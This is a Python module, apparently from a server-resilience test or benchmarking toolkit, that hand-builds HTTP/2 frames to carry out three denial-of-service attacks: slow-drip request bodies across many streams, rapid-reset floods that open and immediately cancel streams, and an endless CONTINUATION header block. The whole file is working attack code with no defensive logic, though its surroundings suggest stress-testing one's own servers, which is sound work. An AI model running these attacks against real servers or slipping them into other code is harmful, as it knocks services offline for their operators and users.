"""HTTP/2 with prior knowledge, as far as an attacker needs it: RFC 9113, and RFC 7541 without any compression."""

import asyncio
import contextlib
import struct
from collections.abc import Mapping
from dataclasses import dataclass

from tools.bench.door.tally import Tally
from tools.prober.client import wait

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = struct.pack(">I", 8)
PACE_SECONDS = 1.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def field(name: str, value: str) -> bytes:
    """A header field, never indexed; names and values of at most 126 bytes."""
    return b"\x10" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def fields(method: str, path: str, host: str, headers: Mapping[str, str]) -> bytes:
    """The block of a request's header fields."""
    pseudo = {":method": method, ":scheme": "http", ":path": path, ":authority": host}
    return b"".join(field(name, value) for name, value in {**pseudo, **headers}.items())


@dataclass(frozen=True)
class Streams:
    """One connection with many streams whose bodies come a byte a second."""

    kind: str
    address: tuple[str, int]
    block: bytes
    """Of `fields`, for a POST."""
    count: int

    async def run(self, tally: Tally, stopping: asyncio.Event) -> None:
        """Open the streams and drip; begin anew when the connection is closed."""
        while not stopping.is_set():
            numbers = [1 + 2 * number for number in range(self.count)]
            opening = [frame(HEADERS, END_HEADERS, number, self.block) for number in numbers]
            drip = b"".join(frame(DATA, 0, number, b"a") for number in numbers)
            await _hold(self.kind, self.address, b"".join(opening), drip, tally, stopping)


@dataclass(frozen=True)
class Resets:
    """One connection that begins streams and cancels them at once (rapid reset)."""

    kind: str
    address: tuple[str, int]
    block: bytes
    rate: int
    """Streams a second."""

    async def run(self, tally: Tally, stopping: asyncio.Event) -> None:
        """Begin anew when the connection is closed."""
        while not stopping.is_set():
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(*self.address)
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                number = 1
                while not stopping.is_set() and not reader.at_eof() and number < 2**30:
                    pieces = []
                    for _ in range(self.rate // 10):
                        pieces += [frame(HEADERS, END_HEADERS | END_STREAM, number, self.block)]
                        pieces += [frame(RESET, 0, number, CANCEL)]
                        number += 2
                    writer.write(b"".join(pieces))
                    with contextlib.suppress(TimeoutError):
                        await asyncio.wait_for(reader.read(65536), 0.1)
                writer.transport.abort()
            tally.ended[self.kind, "closed"] += 1


@dataclass(frozen=True)
class Continuations:
    """One connection whose header block never ends."""

    kind: str
    address: tuple[str, int]

    async def run(self, tally: Tally, stopping: asyncio.Event) -> None:
        """Begin anew when the connection is closed."""
        opening = frame(HEADERS, 0, 1, fields("GET", "/", "localhost", {}))
        drip = frame(CONTINUATION, 0, 1, field("x-filler", "a" * 100) * 80)
        while not stopping.is_set():
            await _hold(self.kind, self.address, opening, drip, tally, stopping, pace=0.02)


async def _hold(
    kind: str,
    address: tuple[str, int],
    opening: bytes,
    drip: bytes,
    tally: Tally,
    stopping: asyncio.Event,
    *,
    pace: float = PACE_SECONDS,
) -> None:
    try:
        reader, writer = await asyncio.open_connection(*address)
    except OSError:
        tally.ended[kind, "refused"] += 1
        await wait(stopping, PACE_SECONDS)
        return
    tally.open_now[kind] += 1
    answers = asyncio.create_task(_swallow(reader))
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + opening)
        while not stopping.is_set() and not answers.done():
            await wait(stopping, pace)
            writer.write(drip)
            await writer.drain()
    except OSError:
        pass
    finally:
        tally.open_now[kind] -= 1
        tally.ended[kind, "open" if stopping.is_set() else "closed"] += 1
        answers.cancel()
        writer.transport.abort()


async def _swallow(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass
